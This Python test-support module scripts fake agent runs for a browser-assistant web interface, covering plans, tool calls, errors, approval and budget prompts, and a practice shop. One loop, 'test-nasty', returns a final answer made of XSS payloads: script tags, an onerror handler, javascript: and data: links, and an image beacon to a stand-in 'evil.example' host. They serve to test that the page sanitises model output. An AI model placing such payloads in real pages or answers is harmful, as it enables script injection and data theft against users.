"""A server with runs that behave as told: every state that the page must show, at a test's command."""

import asyncio
import re
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from playwright.async_api import Page

from pilotfish.app import Pilotfish, loop
from pilotfish.core import events
from pilotfish.core.errors import PersonError
from pilotfish.core.messages import ToolCall
from pilotfish.core.settings import ModelSettings, Settings
from pilotfish.core.settings import ServerSettings as Where
from pilotfish.core.usage import Usage
from pilotfish.practice.server import Practice
from pilotfish.runtime.run import Run
from serving import PATIENCE, serve_pilotfish

HELD = 100
ANSWER = """The **Pelican** lifts more: 40 kg against 5 kg. [1] [2]

| arm | lifts | price |
|---|---|---|
| Pelican | 40 kg | 1,290 € |
| Sparrow | 5 kg | 480 € |

```python
heavier = max(arms, key=lambda arm: arm.lifts)
```

- [x] both compared
"""
SOURCES = (
    {"title": "Pelican, the strong arm", "url": "https://arms.example/pelican"},
    {"title": "Sparrow, the light arm", "url": "https://arms.example/sparrow"},
)
PRICED = Usage(input=5200, output=410, cost=0.0031)


class Gate:
    """Lets a run go on when the test says so."""

    def __init__(self) -> None:
        self.opened = asyncio.Event()

    async def wait(self) -> None:
        async with asyncio.timeout(HELD):
            await self.opened.wait()


GATES: dict[str, Gate] = {}


async def wait(run: Run) -> None:
    """Until the gate named by the task is opened; a step of its own, as waiting is in a real loop."""
    gate = GATES.setdefault(run.task, Gate())

    async def held() -> dict[str, bool]:
        await gate.wait()
        return {}

    await run.step("held", held)


async def stream_words(run: Run, text: str) -> None:
    """Say a text word by word, as a model would."""
    for word in text.split(" "):
        run.context.journal.send_delta(events.TextDelta(run=run.id, call="c", text=word + " "))
        await asyncio.sleep(0)


async def emit_priced_call(run: Run, purpose: str, number: int, model: str = "hosted:big") -> None:
    """A model call with a price, as a hosted model would have."""
    call = f"{run.id}:p{number}"
    asked = events.ModelAsked(run=run.id, call=call, tier="main", model=model, purpose=purpose, tokens=5200)
    await run.emit(f"p{number}.asked", asked)
    reply = events.ModelReplied(
        run=run.id,
        call=call,
        tier="main",
        model=model,
        purpose=purpose,
        text="A thought.",
        usage=PRICED,
        seconds=1.3,
        context=5200 * number,
        window=32_768,
    )
    run.spending.charge(PRICED)
    await run.emit(f"p{number}.replied", reply)


async def use_tool(run: Run, number: int, tool: str, text: str, *, ok: bool = True) -> None:
    """A tool call and its result."""
    start = events.ToolStarted(run=run.id, call=f"d{number}", tool=tool, args={"id": number, "text": text})
    await run.emit(f"d{number}.started", start)
    end = events.ToolFinished(
        run=run.id,
        call=f"d{number}",
        tool=tool,
        ok=ok,
        text=text if ok else "",
        output=f"{text}\nurl: https://arms.example/cart",
        error="" if ok else "The button is covered by a dialog. Close it first.",
        seconds=0.4 * number,
    )
    await run.emit(f"d{number}.finished", end)


@loop("test-story")
async def story(run: Run) -> None:
    """A whole run: a plan, tool calls, a failure, a page, an answer with sources."""
    await run.note("loop", "Using react: it is a question, and no page is open.", loop="react")
    judged = {
        "tool": "click",
        "effect": "buy",
        "site": "arms.example",
        "why": "it says “Buy”",
        "rule": "ask_before_effects",
    }
    await run.note("policy", "", decision="refused", **judged)
    steps = ("Find both arms", "Compare what they lift", "Answer with sources")
    await run.plan([(step, "open") for step in steps])
    await emit_priced_call(run, "reason", 1)
    await use_tool(run, 1, "web_search", "found 8 results for “robot arm lifting capacity”")
    await use_tool(run, 2, "click", "", ok=False)
    await use_tool(run, 3, "click", "clicked “Pelican”; the page shows its data sheet")
    seen = events.PageSeen(run=run.id, url="https://arms.example/pelican", title="Pelican, the strong arm", text="…")
    await run.emit("seen", seen)
    await emit_priced_call(run, "answer", 2)
    await run.plan([(step, "done") for step in steps])
    await run.finish(ANSWER, SOURCES)


@loop("test-held")
async def pause_mid_answer(run: Run) -> None:
    """Says half of the answer, waits for the gate named by the task, says the rest."""
    await use_tool(run, 1, "click", "clicked “Add to cart”; the cart shows 1")
    await stream_words(run, "The first half is here and")
    await wait(run)
    await stream_words(run, "the second half follows.")
    await run.finish("The first half is here and the second half follows.")


@loop("test-steps")
async def steps(run: Run) -> None:
    """Two steps, with what was said in each phase."""
    for step in (1, 2):
        run.begin_step(step)
        await run.reason(f"In step {step} I look at the lamp.", "reason", step, public=True)
        await run.reason(f"After step {step} the lamp is on.", "observe", step, public=True)
    await run.finish("The lamp is on.")


@loop("test-asks")
async def asks(run: Run) -> None:
    """Asks a question, then for permission, then tells what it heard."""
    colour = await run.request_input("Which colour should the lamp have?", ("Red", "Blue"))
    details: dict[str, Any] = {"what": "Buy the lamp for 48.90 €", "where": "shop.example", "why": "It spends money"}
    choices = ("Allow once", "Allow for this run", "Refuse")
    may = await run.request_input("May I place the order?", choices, kind="approval", **details)
    await run.finish(f"You said {colour} and {may}.")


@loop("test-money")
async def money(run: Run) -> None:
    """Asks what to do when the budget is used up."""
    await emit_priced_call(run, "reason", 1)
    choices = ("Raise by 10 cents", "Answer with what there is", "Stop")
    way = await run.request_input("10 of 10 cents are spent. Go on?", choices, kind="budget", spent=10, limit=10)
    await run.finish(f"You said {way}.")


@loop("test-fails")
async def fails(run: Run) -> None:
    """Ends badly, with a sentence and a fix."""
    from pilotfish.core.errors import ModelError

    await emit_priced_call(run, "reason", 1)
    raise ModelError("The model did not answer in 120 seconds.", "Try again, or choose another model.")


@loop("test-halfway")
async def halfway(run: Run) -> None:
    """Does something and ends badly; a run that goes on from it succeeds."""
    from pilotfish.core.errors import ModelError

    if run.options.get("continues"):
        return await run.finish(f"Done, after {run.options['continues']}.")
    await use_tool(run, 1, "click", "put the arm into the cart")
    raise ModelError("The answer broke off.", "Wait a little and try again.")


@loop("test-weak")
async def weak(run: Run) -> None:
    """Ends without success where no model is named, as a small model may; a named one succeeds."""
    if run.options.get("model"):
        return await run.finish(f"Done with {run.options['model']}, after {run.options['continues']}.")
    await emit_priced_call(run, "turn", 1, "embedded:smollm2-135m")
    raise PersonError("I got no further.", "A larger model may manage it.")


@loop("test-long")
async def long(run: Run) -> None:
    """Ten thousand events and more."""
    batch = [
        events.ToolFinished(run=run.id, call=f"n{n}", tool="click", ok=True, text=f"clicked thing {n}", seconds=0.1)
        if kind
        else events.ToolStarted(run=run.id, call=f"n{n}", tool="click", args={"id": n})
        for n in range(5000)
        for kind in (0, 1)
    ]
    for at in range(0, len(batch), 500):
        keyed = [event.model_copy(update={"key": f"n{at + n}"}) for n, event in enumerate(batch[at : at + 500])]
        await run.context.journal.append(*keyed)
    await run.finish("All of it is done.")


@loop("test-nasty")
async def nasty(run: Run) -> None:
    """An answer that would run script, if it could."""
    await run.finish(
        "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
        '[a](javascript:document.title="owned") ![p](https://evil.example/p.png?stolen) '
        '<a href="data:text/html,x" style="position:fixed">b</a>'
    )


@loop("test-looks")
async def looks(run: Run) -> None:
    """Looks at the page, takes a picture of it, and waits for its gate before going on."""
    await run.note("loop", "Using horizon: it asks for something to be done.", loop="horizon")
    await run.observe()
    await run.act(ToolCall(id="shot", tool="screenshot"))
    await wait(run)
    await run.observe()
    await run.finish("I looked twice.")


@loop("test-reads")
async def reads(run: Run) -> None:
    """Tells what the pages that it was given say, and what the person wrote."""
    tabs = await run.read_tabs()
    texts = "\n".join(f"- {tab.title}: {' '.join(tab.text.split())[:400]}" for tab in tabs)
    await run.finish(f"{texts}\n- pictures: {sum(len(message.images) for message in run.messages)}")


@loop("test-points")
async def points(run: Run) -> None:
    """Waits for its gate, then points at the shop's first link and waits again."""
    page = await run.observe()
    await wait(run)
    link = re.search(r'\[(\d+)\] link "Tide kettle"', page.text)
    assert link, page.text
    await run.act(ToolCall(id="point", tool="hover", args={"id": int(link[1])}))
    await run.finish("I pointed at it.")


@loop("test-shops")
async def shops(run: Run) -> None:
    """Visits a product in the practice shop, as a person would watch it."""
    steps = ("Open the shop", "Open the tide kettle", "Tell what it costs")
    await run.note("loop", "Using horizon: it asks for something to be done.", loop="horizon")
    await run.plan([(step, "open") for step in steps])
    page = await run.observe()
    await emit_priced_call(run, "execute", 1)
    await run.plan([(steps[0], "done"), *((step, "open") for step in steps[1:])])
    link = re.search(r'\[(\d+)\] link "Tide kettle"', page.text)
    assert link, page.text
    await run.act(ToolCall(id="open", tool="click", args={"id": int(link[1])}))
    await run.observe()
    await run.plan([*((step, "done") for step in steps[:2]), (steps[2], "open")])
    await wait(run)
    await emit_priced_call(run, "answer", 2)
    text = "The **Tide kettle** costs **€48.90**; 14 are in stock. It holds 1.2 litres."
    await stream_words(run, text)
    await run.plan([(step, "done") for step in steps])
    await run.finish(text)


@dataclass
class Stage:
    """The server, the practice site and the browser that looks at them."""

    fish: Pilotfish
    url: str
    site: Practice

    @property
    def way_in(self) -> str:
        return f"{self.url}/enter?token={self.fish.users.local_token}"

    async def start(self, name: str, task: str = "Which arm lifts more?", **how: object) -> tuple[str, str]:
        """A run begun elsewhere: its id and its conversation's."""
        run = await self.fish.start(task, loop=f"test-{name}", **how)  # pyright: ignore[reportArgumentType]
        return run.id, run.conversation

    async def ended(self, run: str) -> None:
        async with asyncio.timeout(PATIENCE):
            async for _ in self.fish.follow(run):
                pass

    async def open(self, page: Page, path: str = "/") -> Page:
        await page.goto(f"{self.url}{path}")
        await page.wait_for_selector("#main")
        return page


def release(task: str) -> None:
    """Let a held run go on."""
    GATES.setdefault(task, Gate()).opened.set()


@asynccontextmanager
async def open_stage(home: Path, model: str = "scripted") -> AsyncGenerator[Stage]:
    settings = Settings(home=home, models=ModelSettings(main=model), server=Where(port=0))
    async with Practice() as site, Pilotfish(settings) as fish, serve_pilotfish(fish) as (_, url):
        yield Stage(fish, url, site)
